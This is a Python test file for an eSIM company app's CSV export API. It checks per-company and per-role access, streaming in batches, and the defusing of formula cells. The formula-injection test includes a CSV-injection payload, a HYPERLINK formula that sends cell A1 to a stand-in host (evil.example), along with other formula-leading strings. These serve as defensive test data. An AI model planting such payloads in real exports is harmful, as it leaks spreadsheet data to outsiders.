"""CSV exports over HTTP: the session cookie decides the company and the role; cells that a
spreadsheet would run as formulas are defused; the body is streamed in batches."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator

import pytest
import sqlalchemy as sa
from starlette.testclient import TestClient

from esim_app.http.api import build_api
from esim_app.http.session import cookie_name
from services.accounts import passwords
from services.core import db
from services.enterprise import allocation, exports
from services.enterprise.allocation import utcnow
from tests.support.enterprise import company_esims, company_user, member
from tests.support.tabs import SignedIn, exchange

PASSWORD = "correct horse battery"


@pytest.fixture(scope="module")
def client(database_url: str) -> Iterator[TestClient]:
    with TestClient(build_api(), base_url="http://127.0.0.1:3000", follow_redirects=False) as c:
        yield c


def _signed_in(role: str, company_id: int | None = None) -> SignedIn:
    email = f"x-{role}-{uuid.uuid4().hex[:8]}@example.com"
    company_user(email, PASSWORD, role=role, company_id=company_id)
    return exchange(passwords.login_with_password("enterprise", email, PASSWORD, ip="10.7.0.1", user_agent=None))


def _get(client: TestClient, kind: str, who: SignedIn | None):
    client.cookies.clear()
    if who is not None:
        client.cookies.set(cookie_name(), who.token)
    return client.get(f"/api/exports/{kind}.csv")


def _rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


def test_a_company_exports_its_allocations_and_nobody_else_sees_them(client: TestClient) -> None:
    admin = _signed_in("admin")
    company_esims(admin.identity.org_id, 4)  # type: ignore[arg-type]
    allocation.assign_text(admin.identity, "Ada, ada-e@example.com\nBob, bob-e@example.com\nCy, cy-e@example.com")
    response = _get(client, "allocations", admin)
    assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="allocations-')
    rows = _rows(response.text)
    assert rows[0][:4] == ["esim_ref", "iccid", "recipient_name", "recipient_email"] and len(rows) == 4
    assert {r[3] for r in rows[1:]} == {"ada-e@example.com", "bob-e@example.com", "cy-e@example.com"}
    esims = _rows(_get(client, "esims", _signed_in("finance", admin.identity.org_id)).text)
    assert len(esims) == 5 and sorted(r[4] for r in esims[1:]) == ["assigned", "assigned", "assigned", "in_stock"]
    assert len(_rows(_get(client, "usage", _signed_in("operations", admin.identity.org_id)).text)) == 5
    orders = _rows(_get(client, "orders", admin).text)
    assert len(orders) == 2 and orders[1][3] == "4"

    other = _signed_in("admin")
    for kind in exports.KINDS:
        assert len(_rows(_get(client, kind, other).text)) == 1  # the header only
    assert _get(client, "allocations", _signed_in("viewer", admin.identity.org_id)).status_code == 403
    assert _get(client, "allocations", None).status_code == 401
    assert _get(client, "secrets", admin).status_code == 404


def test_cells_a_spreadsheet_would_run_get_an_apostrophe(client: TestClient) -> None:
    admin = _signed_in("admin")
    company_esims(admin.identity.org_id, 5)  # type: ignore[arg-type]
    allocation.assign_text(admin.identity, '=HYPERLINK("http://evil.example/?"&A1),e1@example.com\n'
                                           "+SUM(1),e2@example.com\n-2+3,e3@example.com\n@cmd,e4@example.com\n"
                                           "Plain Name,e5@example.com")
    with db.session() as s:
        s.exec(sa.text("UPDATE esim_allocations SET recipient_name = E'\\tTab' WHERE recipient_email = 'e5@example.com'"))
        s.commit()
    names = sorted(r[2] for r in _rows(_get(client, "allocations", admin).text)[1:])
    assert names == ["'\tTab", "'+SUM(1)", "'-2+3", "'=HYPERLINK(\"http://evil.example/?\"&A1)", "'@cmd"]
    assert exports.safe_text("\rx") == "'\rx" and exports.safe_text("a=b") == "a=b" and exports.safe_text(None) == ""


def test_the_body_streams_in_batches_from_a_cursor(database_url: str) -> None:
    admin = member("finance")
    company_esims(admin.org_id, 7)  # type: ignore[arg-type]
    spec = exports._specs(utcnow())["esims"]
    chunks = list(exports.stream_rows(spec, admin.org_id, utcnow(), batch=3))  # type: ignore[arg-type]
    assert len(chunks) == 1 + 3  # the header, then 3 + 3 + 1 rows
    assert len(_rows(b"".join(chunks).decode())) == 8
